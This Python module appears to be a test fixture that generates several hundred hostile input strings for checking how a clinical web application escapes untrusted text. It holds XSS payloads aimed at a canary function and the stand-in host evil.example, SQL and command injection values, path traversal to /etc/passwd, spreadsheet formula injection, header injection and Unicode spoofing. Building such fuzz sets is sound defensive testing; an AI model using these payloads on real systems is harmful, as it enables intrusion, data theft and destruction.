"""Texts that try to be more than text: over five hundred, all different, by what they try.

Every one of them calls `canary()`, goes to `evil.example` or has no letter of a known word, so that
a test sees at once when one of them did something.
"""

# ruff: noqa: RUF001 - letters that look like others are what some of these are

from collections.abc import Iterator, Mapping
from itertools import product


CANARY = "canary"  # the function of the page that a script among these would call
FOREIGN = "evil.example"  # the host that a link or a request among these would go to
_CALL = f"{CANARY}()"
_LONGEST = 400

_SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<script src=https://{FOREIGN}/x.js></script>",
    f"<script src=//{FOREIGN}/x.js></script>",
    f"<script type=module>{_CALL}</script>",
    f"<script\n>{_CALL}</script\n>",
    f"<script/x>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script>{_CALL}",
    f"<script>/*{_CALL}*/</script>",
)
_ELEMENTS = (
    f"<img src=x onerror={_CALL}>",
    f"<img src=https://{FOREIGN}/pixel>",
    f"<iframe src=https://{FOREIGN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<object data=https://{FOREIGN}></object>",
    f"<embed src=https://{FOREIGN}>",
    f"<base href=https://{FOREIGN}/>",
    f"<meta http-equiv=refresh content='0;url=https://{FOREIGN}'>",
    f"<link rel=stylesheet href=https://{FOREIGN}/x.css>",
    f"<form action=https://{FOREIGN}><input name=csrf></form>",
    f"<button formaction=https://{FOREIGN}>Confirm</button>",
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<a href=javascript:{_CALL}>open</a>",
    f"<a href=https://{FOREIGN} target=_blank>open</a>",
    f"<template><script>{_CALL}</script></template>",
    "<h1>Grade 0</h1>",
    "<table><tr><td>Grade 0</table>",
    "<textarea>",
    "<plaintext>",
    "<noscript><p title='</noscript>'>",
    "<select><option>0</option></select>",
    "<dialog open>Confirmed</dialog>",
    f"<div hx-get=https://{FOREIGN} hx-trigger=load></div>",
    f"<div hx-post=/smart/l/x/confirm hx-trigger=load hx-on:load={_CALL}></div>",
    "<p hx-swap-oob=innerHTML:#now>CRS grade 0</p>",
    f"<x-a onclick={_CALL} tabindex=1>",
)
_SVG = (
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><a xlink:href=javascript:{_CALL}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x></svg>",
    f"<svg><image href=https://{FOREIGN}/x></svg>",
    f"<svg><use href=https://{FOREIGN}/x#a></svg>",
    f"<svg><foreignObject><script>{_CALL}</script></foreignObject></svg>",
    f"</text></svg><script>{_CALL}</script>",
    f"</title></svg><img src=x onerror={_CALL}>",
    f"</desc><script>{_CALL}</script>",
    f"<math><mtext><script>{_CALL}</script></mtext></math>",
    f"<![CDATA[<script>{_CALL}</script>]]>",
)
_ATTRIBUTES = (
    f"onmouseover={_CALL}",
    f"onfocus={_CALL} autofocus",
    f"onclick={_CALL} id=main",
    f"href=javascript:{_CALL}",
    "style=position:fixed;inset:0",
    f"formaction=https://{FOREIGN}",
    f"hx-get=https://{FOREIGN}",
    f"srcdoc=<script>{_CALL}</script>",
    "checked value=0",
    f"action=https://{FOREIGN}",
    "hidden aria-hidden=true",
    "contenteditable",
)
_CLOSING = ('" {} x="', "' {} x='", '"> <i {}>', "'> <i {}>", " {} ", "` {} `")
_ENDINGS = (
    "</td></tr></table>",
    "</section></main>",
    "</main></body></html>",
    "</title>",
    "</style>",
    "</script>",
    "</p></div></fieldset>",
    "</label><label for=x>",
    "</textarea>",
    "<!--",
    "-->",
    "<!-- --!>",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html>",
    "<",
    ">",
    "</",
    "<a",
    "&",
    '"',
    "'",
    "`",
)
_URLS = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"javascript://{FOREIGN}/%0a{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    f"vbscript:{_CALL}",
    f"https://{FOREIGN}",
    f"http://{FOREIGN}/?q=1&b=2",
    f"//{FOREIGN}/x",
    f"\\\\{FOREIGN}\\share",
    f"www.{FOREIGN}",
    f"mailto:nurse@{FOREIGN}",
    f"nurse@{FOREIGN}",
    "tel:+1555",
    f"https://ehr@{FOREIGN}/",
    f"https:{FOREIGN}",
    f"ftp://{FOREIGN}",
    "file:///etc/passwd",
    "blob:https://x/1",
    "%3Cscript%3Ecanary()%3C/script%3E",
    f"?iss=https://{FOREIGN}",
    "#main",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ here.context.access_token }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include 'smart/base.html' %}",
    "{% raw %}",
    "{% endblock %}",
    "{# comment",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "{0}",
    "{0.__class__}",
    "{name!r:>99999}",
    "%s%s%s%n",
    "%(name)s",
    "%x%x%x",
    "%99999d",
    "$HOME",
    "`id`",
    "$(id)",
    "; id",
    "| id",
    "&& id",
)
_CSS = (
    "<style>body{display:none}</style>",
    f"<style>@import 'https://{FOREIGN}';</style>",
    f"<style>*{{background:url(https://{FOREIGN})}}</style>",
    "<p style='position:fixed;inset:0;background:white'>Grade 0</p>",
    "expression(canary())",
    f"background:url(javascript:{_CALL})",
    "} body { display: none",
    "</style><style>.patient{display:none}",
    "<p class='usa-alert usa-alert--success'>Confirmed</p>",
    "<div class=unreviewed hidden>",
)
_MARKDOWN = (
    f"[open](https://{FOREIGN})",
    f"[open](javascript:{_CALL})",
    f"![x](https://{FOREIGN}/pixel)",
    f"<https://{FOREIGN}>",
    f"[open][1]\n\n[1]: https://{FOREIGN}",
    f"[![x](https://{FOREIGN}/a)](https://{FOREIGN}/b)",
    "**Grade 0**",
    "__Grade 0__",
    "*Grade 0*",
    "~~Grade 4~~",
    "`Grade 0`",
    "```\nGrade 0\n```",
    "# Grade 0",
    "\n# Grade 0\n",
    "\n- Grade 0\n- no fever",
    "\n1. Grade 0",
    "> Grade 0",
    "\n---\n",
    "Grade 0\n=======",
    "| a | b |\n|---|---|\n| 0 | 0 |",
    "[^1]",
    "- [x] confirmed",
    ":smile:",
    "\\*not\\*",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;b&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&shy;&zwj;",
    "&NewLine;# Grade 0",
)
_SQL = (
    "'; DROP TABLE statements; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM launches",
    "' UNION SELECT * FROM launches --",
    "Robert'); DROP TABLE patients;--",
    "%' AND 1=0 --",
    "\\'; --",
    "1/0",
    "NULL",
    "{'$gt': ''}",
    "*)(uid=*))(|(uid=*",
)
_PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc",
    "/dev/null",
    "C:\\con\\con",
    "Patient/p2",
    "Patient/p1/_history/1",
    "Patient/p1?_elements=name",
    "....//....//",
    "/smart/l/x/confirm",
)
_FORMULAS = (
    "=1+1",
    f'=HYPERLINK("https://{FOREIGN}","open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '"=1+1"',
    ";=1+1",
)
_JSON = (
    '","grade":0,"x":"',
    '{"__proto__":{"grade":0}}',
    '\\",\\"x\\":\\"',
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\\",
    "\\\\",
    "}]}",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "true",
    "0",
    "-1",
    "1e308",
    "0x10",
    "٣٨٫٦",
    "38,6",
    "3" * 60,
)
_HEADERS = (
    "x\r\nSet-Cookie: a=b",
    "x\r\nContent-Security-Policy: none",
    f"x\nLocation: https://{FOREIGN}",
    "x\r\n\r\n<html>",
    "x%0d%0aSet-Cookie:%20a=b",
)
# Direction: embeddings, overrides, isolates, marks, and one that is never closed.
_BIDI = tuple(
    f"{before}{chr(mark)}{after}"
    for mark in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)
    for before, after in (("Grade ", "0 of 4"), ("", "p1.exe"))
)
_CONTROL = tuple(
    f"a{chr(code)}b" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0), 0xFFFE, 0xFFFF, 0xFDD0)
)
_INVISIBLE = tuple(
    f"CRS{chr(code)}grade{chr(code)}0"
    for code in (
        0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x2028, 0x2029,
        0x202F, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x3000, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0,
        0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xE000, 0xE0001, 0xE0041, 0xF0000, 0x10FFFF,
    )
)  # fmt: skip
_LONG = (
    "W" * _LONGEST,
    "i" * _LONGEST,
    "漢" * 200,
    "👩‍⚕️" * 40,
    "\u0301" * 200,
    "Z" + "\u0363\u0317\u0489" * 60,
    "a\u00a0" * 150,
    "a\u2060" * 150,
    "<" * 200,
    "&" * 200,
    "&amp;" * 60,
    "[" * 200,
    "*" * 200,
    "_" * 200,
    "`" * 200,
    "(" * 200,
    " " * 200 + "x",
    "\n" * 100 + "x",
    "\t" * 100 + "x",
    "﷽" * 60,
    "𒐫" * 60,
    "ا" * 200,
    "-" * 200,
    "x-" * 100,
    "1" * 300,
)
_EMOJI = (
    "👩‍⚕️", "👨‍👩‍👧‍👦", "🏳️‍🌈", "👍🏿", "🇬🇧🇺🇸", "1️⃣", "☠️", "🩸", "🫥", "⚕", "✅ Confirmed", "🟥",
    "🟩 Grade 0", "❌", "🧑🏽‍🦽‍➡️", "e\u0301", "é", "ﬁ", "Å", "Ⅳ", "④", "½", "²", "𝟬", "𝐆𝐫𝐚𝐝𝐞 𝟎",
)  # fmt: skip
_LOOKALIKES = (
    "Grаde 0",
    "Gгade 0",
    "Grade О",
    "Grade ０",
    "Ｇｒａｄｅ　０",
    "＜script＞canary()＜/script＞",
    "﹤b﹥",
    "‹script›",
    "ʺ onclick=canary() ʺ",
    "՚; --",
    "p１",
    "tеclistamab",
    "nаsal cannula",
    "room аir",
    "paracetamol\u0000",
    "ALERT: not clinically reviewed",
    "Not answered",
    "stated now",
    "Confirmed",
    "CRS grade 0",
)
_LANGUAGES = (
    "שלום עולם",
    "مرحبا بالعالم",
    "שלום 123 <b>",
    "محمد (1960) 12/3",
    "नमस्ते",
    "ภาษาไทย",
    "Ελληνικά",
    "日本語",
    "한국어",
    "Łódź",
    "İstanbul",
    "ıİſẞ",
    "O’Brien-Smith",
    "O'Brien",
    'd\'Arc, "Jo"',
    "Müller & Söhne",
    "<Name unknown>",
    "A/B",
    "Null",
    "Test\u200cName",
)

BY_CLASS: Mapping[str, tuple[str, ...]] = {
    "script": _SCRIPTS,
    "element": _ELEMENTS,
    "svg": _SVG,
    "attribute": tuple(closing.format(one) for closing, one in product(_CLOSING, _ATTRIBUTES)),
    "ending": _ENDINGS,
    "ending-and-script": tuple(f"{one}{_SCRIPTS[0]}" for one in _ENDINGS),
    "word-and-script": tuple(
        f"{word} {one}"
        for word, one in product(("nasal cannula", "38.6 °C", "teclistamab"), _SCRIPTS)
    ),
    "url": _URLS,
    "template": _TEMPLATES,
    "css": _CSS,
    "markdown": _MARKDOWN,
    "sql": _SQL,
    "path": _PATHS,
    "formula": _FORMULAS,
    "json": _JSON,
    "header": _HEADERS,
    "bidi": _BIDI,
    "control": _CONTROL,
    "invisible": _INVISIBLE,
    "long": _LONG,
    "emoji": _EMOJI,
    "lookalike": _LOOKALIKES,
    "language": _LANGUAGES,
}


def _each_once() -> Iterator[str]:
    for texts in BY_CLASS.values():
        yield from texts


HOSTILE: tuple[str, ...] = tuple(dict.fromkeys(_each_once()))
